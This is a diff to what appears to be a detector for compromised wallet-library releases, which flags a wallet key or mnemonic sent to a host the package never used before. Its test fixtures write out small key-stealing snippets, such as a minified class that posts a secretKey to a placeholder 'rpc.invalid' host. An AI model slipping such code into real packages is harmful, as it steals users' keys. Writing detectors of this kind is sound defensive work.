@@ -1,17 +1,19 @@
 """This update sends a key that its caller hands over to a host that its line of releases never named.
 
 ## What it detects
-A flow from a parameter that is named as a wallet's key or as the words a key is made from (`privateKey`, `mnemonic`,
-`seed`) to a connection, where the line never connected to that host or named it; and, weighing less, the first such
-flow of a line to a host that cannot be told.
+A flow from a parameter that takes a wallet's key, or the words that a key is made from, to a connection, where the line
+never connected to that host or named it; and, weighing less, the first such flow of a line to a host that cannot be
+told. A parameter takes a key if it is named so (`privateKey`, `mnemonic`), or if the function makes a key of it
+(`fromSecretKey(t)`, `mnemonicToSeed(t)`), signs with it (`ed25519.sign(text, t)`) or keeps it (`secretKey: t`).
 
 ## Why it matters
 The releases of @solana/web3.js (2024), xrpl (2025) and dydx (2026) read no credential of the machine: their users
 handed it to them. Nothing but where it went told them from any other release, and a wallet library has its hosts.
 
 ## What it misses
-Keys in parameters with another name, as minified code has them; keys that pass through another file, or through an
-object that is filled elsewhere; hosts that the line already speaks to. At first contact every host is new.
+Keys that no name tells, neither their own nor that of what is done with them in the same function; keys that pass
+through another file, or through an object that is filled elsewhere; hosts that the line already speaks to. At first
+contact every host is new.
 
 ## References
 - The public records of @solana/web3.js 1.95.6, xrpl 4.2.1 and @dydxprotocol/v4-client-js 1.22.1
@@ -58,6 +60,20 @@ EXAMPLES = (
         at="index.js:2",
     ),
     Example(
+        title="a minified constructor of key pairs posts what it keeps",
+        before={
+            "package.json": package_json("1.0.0"),
+            "index.js": "exports.P = class { constructor(t) { this.k = { secretKey: t }; } };\n",
+        },
+        after={
+            "package.json": package_json("1.0.1"),
+            "index.js": "const n = (t) => fetch('https://rpc.invalid/q', { headers: { 'x-id': t } });\n"
+            "exports.P = class { constructor(t) { n(t); this.k = { secretKey: t }; } };\n",
+        },
+        expect="new-host",
+        at="index.js:2",
+    ),
+    Example(
         title="the words that a key is made from go to a host that is given in the settings",
         before=_BEFORE,
         after={
@@ -73,6 +89,14 @@ EXAMPLES = (
         after={
             "package.json": package_json("1.0.1"),
             "index.js": _WALLET + "exports.load = (keypair) => fetch('https://node.invalid/v2', { body: keypair });\n",
+        },
+    ),
+    Example(
+        title="the seed of a generator of random numbers goes to a new host",
+        before=_BEFORE,
+        after={
+            "package.json": package_json("1.0.1"),
+            "index.js": _WALLET + "exports.draw = (seed) => fetch('https://random.invalid/v1', { body: seed });\n",
         },
     ),
     Example(
